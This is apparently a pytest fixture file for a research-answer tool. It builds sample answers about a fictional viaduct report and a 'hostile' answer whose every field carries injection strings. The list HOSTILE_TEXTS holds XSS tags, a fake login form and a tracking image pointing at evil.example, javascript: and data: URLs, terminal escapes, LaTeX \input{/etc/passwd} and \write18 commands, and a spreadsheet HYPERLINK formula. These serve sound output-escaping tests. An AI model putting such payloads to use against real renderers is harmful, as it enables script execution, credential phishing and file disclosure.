"""Answers to print: a full one, one that found nothing, and one whose pages are hostile in every field."""

import hashlib
from dataclasses import replace

import pytest

from affidavit.evidence.answer import (
    Answer,
    Conflict,
    Dropped,
    Gap,
    GapKind,
    Side,
    Source,
    Tried,
    VerifiedClaim,
    VerifierCard,
)
from affidavit.evidence.claim import Claim, Label, Stance, Verdict
from affidavit.evidence.document import Block, BlockKind, Document
from affidavit.evidence.span import Span

HOSTILE_TEXTS = (
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "<script>alert('x')</script>",
    "</style></main><form action=https://evil.example/><button>Log in</button></form>",
    "![tracker](https://evil.example/?d=secret) and ![ref][1]",
    "[click](javascript:alert(1)) [x](java&#115;cript&colon;alert(1)) <https://evil.example/auto>",
    "\x1b]8;;https://evil.example/\x07safe\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b2Jwiped",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "[bold red]rich markup[/bold red] {{ 7 * 7 }} {% raw %}",
    r"\input{/etc/passwd} \write18{id} }, @misc{x, title={Kestrel",
    "line one\nER  - \nTY  - BOOK",
    "# heading",
    '=HYPERLINK("https://evil.example/")',
)


def make_document(blocks, *, url="https://www.example.org/report", title="The bridge report", **fields):
    """A Document whose text is `blocks`, pairs of kind and text, two newlines apart."""
    text, laid = "", []
    for kind, words, *more in blocks:
        start = len(text)
        text += words
        laid.append(Block(start, len(text), kind, **(more[0] if more else {})))
        text += "\n\n"
    text = text.rstrip("\n")
    values = {
        "requested_url": url,
        "final_url": url,
        "canonical_url": url,
        "retrieved_at": "2026-03-04T05:06:07Z",
        "status": 200,
        "headers": (),
        "media_type": "text/html",
        "sha256": hashlib.sha256(text.encode()).hexdigest(),
        "extractor": "test/1",
        "title": title,
        "published": "2025-11-02",
        "language": "en",
        "text": text,
        "blocks": tuple(laid),
        "author": "J. Ortega",
        "site_name": "Example Bridges",
    }
    return Document(**(values | fields))


def span_of(document, words):
    start = document.text.index(words)
    return Span.at(document, start, start + len(words))


def verified(text, *spans, label=Label.SUPPORTED, element=None, **fields):
    verdicts = tuple(
        Verdict(
            claim_text=text,
            span_id=span.span_id,
            label=label,
            verifier="test/1",
            reason="",
            unsupported_element=element,
        )
        for span in spans
    )
    return VerifiedClaim(Claim(text=text, spans=spans, **fields), verdicts)


REPORT = (
    (BlockKind.NAVIGATION, "Home / Reports / Bridges", {"main": False}),
    (BlockKind.HEADING, "The bridge report", {"level": 1}),
    (BlockKind.PARAGRAPH, "This report covers the three bridges of Oxmoor. It was written for the council."),
    (BlockKind.HEADING, "The rail viaduct", {"level": 2}),
    (
        BlockKind.PARAGRAPH,
        "The viaduct opened in 1918. It carried 26,100 people a day in the winter count of 2017. "
        "The east stair was moved in 1992.",
    ),
    (BlockKind.LIST_ITEM, "Length: 412 metres"),
    (BlockKind.LIST_ITEM, "Arches: 14"),
    (BlockKind.TABLE_ROW, "2017 | 26,100", {"heads": ("Year", "People a day")}),
    (BlockKind.CODE, "count = sum(day.people\n            for day in winter)"),
    (BlockKind.QUOTATION, "“It is the best seat in town,” said the stationmaster."),
    (BlockKind.CAPTION, "The viaduct from the north, 1921."),
    (BlockKind.PARAGRAPH, "The bond for the viaduct was paid off in 1949."),
)
COUNTS = (
    (BlockKind.HEADING, "Winter counts", {"level": 1}),
    (BlockKind.PARAGRAPH, "In the winter of 2017 the count on the viaduct was 24,800 people a day."),
    (BlockKind.PARAGRAPH, "Counts are taken by hand. They may be off by five per cent."),
)


@pytest.fixture
def report_document():
    return make_document(REPORT)


@pytest.fixture
def counts_document():
    return make_document(
        COUNTS, url="https://counts.example.net/2017?view=all&lang=en", title="Counts of 2017", published="2018"
    )


@pytest.fixture
def answer(report_document, counts_document):
    """Everything an answer can hold, at once."""
    opened = span_of(report_document, "The viaduct opened in 1918.")
    carried = span_of(report_document, "It carried 26,100 people a day in the winter count of 2017.")
    counted = span_of(counts_document, "In the winter of 2017 the count on the viaduct was 24,800 people a day.")
    bond = span_of(report_document, "The bond for the viaduct was paid off in 1949.")
    first = verified(opened.text, opened, subquestion="When did the viaduct open?")
    second = verified(
        "26,100 people crossed it daily in winter 2017.", carried, counted, subquestion="How many use it?"
    )
    third = verified(
        "The bond ran for 31 years.", bond, inference=True, premises=(first.claim.claim_id, second.claim.claim_id)
    )
    return Answer(
        run_id="run_0123456789abcdef",
        question="When did the Oxmoor viaduct open, and how many people use it?",
        tested_claim=None,
        falsifier=None,
        summary="The viaduct opened in 1918 and is heavily used.",
        claims=(first, second, third),
        partial=(verified("The bond was paid off early.", bond, label=Label.PARTIAL, element="early"),),
        dropped=(
            Dropped(
                Claim(text="The viaduct cost two million.", spans=(bond,)),
                Label.NOT_SUPPORTED,
                "silent on cost",
                "cost",
            ),
        ),
        gaps=(
            Gap(GapKind.NOTHING_FOUND, "What did it cost?", "4 searches, no page names a price"),
            Gap(GapKind.BLOCKED, None, "https://paywalled.example.com/viaduct: login"),
        ),
        conflicts=(
            Conflict(
                "people a day, winter 2017",
                Side(span=carried, value="26,100", unit="people a day", as_of="2017"),
                Side(span=counted, value="24,800", unit="people a day"),
            ),
        ),
        sources=tuple(
            Source(
                url=document.final_url,
                title=document.title,
                doc_id=document.doc_id,
                tier=tier,
                score=0.75,
                terms={"tier": 0.3, "recency": 0.15, "data": 0.2, "independence": 0.1},
                published=document.published,
            )
            for document, tier in ((report_document, "primary"), (counts_document, "aggregator"))
        ),
        tried=(
            Tried(query="oxmoor viaduct", provider="archive", results=10, novelty=1.0),
            Tried(query="oxmoor viaduct disputed", provider="archive", results=4, novelty=0.25),
        ),
        documents=(report_document, counts_document),
        verifier=VerifierCard(name="verbatim", version="1", calibration=None),
        budget={"searches": {"used": 2, "limit": 12}, "seconds": {"used": 1.25, "limit": None}},
        warnings=("One page states no date.",),
    )


@pytest.fixture
def nothing(answer):
    return replace(
        answer,
        summary="",
        claims=(),
        partial=(),
        dropped=(),
        conflicts=(),
        sources=(),
        tried=(),
        documents=(),
        warnings=(),
    )


@pytest.fixture
def tested(answer):
    """A run that tested a claim and found something for it and nothing against."""
    first = answer.claims[0]
    stands = VerifiedClaim(replace(first.claim, stance=Stance.FOR), first.verdicts)
    return replace(
        answer,
        question="The viaduct opened in 1918.",
        tested_claim="The viaduct opened in 1918.",
        falsifier="A page that names another year.",
        claims=(stands,),
    )


@pytest.fixture(params=HOSTILE_TEXTS)
def hostile_text(request):
    return request.param


@pytest.fixture
def hostile(hostile_text):
    """An answer each of whose page-supplied and free fields is `hostile_text`."""
    document = make_document(
        (
            (BlockKind.HEADING, hostile_text, {"level": 2}),
            (BlockKind.PARAGRAPH, f"The viaduct opened in 1918 {hostile_text} and stayed."),
            (BlockKind.TABLE_ROW, hostile_text, {"heads": (hostile_text,)}),
            (BlockKind.CODE, hostile_text),
        ),
        url="https://h.example/a?x=<b>&y=`'\"|\\",
        title=hostile_text,
        author=hostile_text,
        site_name=hostile_text,
        published=hostile_text,
        language=hostile_text,
    )
    span = span_of(document, f"The viaduct opened in 1918 {hostile_text} and stayed.")
    claim = verified(span.text, span, subquestion=f"{hostile_text}?")
    gap = Gap(GapKind.UNRESOLVED, hostile_text, hostile_text)
    return Answer(
        run_id="run_1",
        question=hostile_text,
        tested_claim=None,
        falsifier=hostile_text,
        summary=hostile_text,
        claims=(claim,),
        partial=(verified(hostile_text, span, label=Label.PARTIAL, element=hostile_text),),
        dropped=(Dropped(claim.claim, Label.COULD_NOT_CHECK, hostile_text, hostile_text),),
        gaps=(gap,),
        conflicts=(Conflict(hostile_text, Side(span=span, value=hostile_text, unit=hostile_text), Side(span=span)),),
        sources=tuple(
            Source(
                url=url,
                title=hostile_text,
                doc_id=None,
                tier="secondary",
                score=0.1,
                terms={"tier": 0.1},
                published=None,
            )
            for url in ("javascript:alert(1)", "//evil.example/x", "data:text/html,<script>1</script>", hostile_text)
        ),
        tried=(Tried(query=hostile_text, provider=hostile_text, results=0, novelty=0.0),),
        documents=(document,),
        verifier=VerifierCard(name=hostile_text, version=hostile_text, calibration={hostile_text: hostile_text}),
        budget={hostile_text: {"used": 1, "limit": 2}},
        needs_human=hostile_text,
        injection_observed=hostile_text,
        warnings=(hostile_text,),
    )


@pytest.fixture(name="make_document", scope="session")
def _make_document():
    return make_document


@pytest.fixture(name="span_of", scope="session")
def _span_of():
    return span_of


@pytest.fixture(name="verified", scope="session")
def _verified():
    return verified
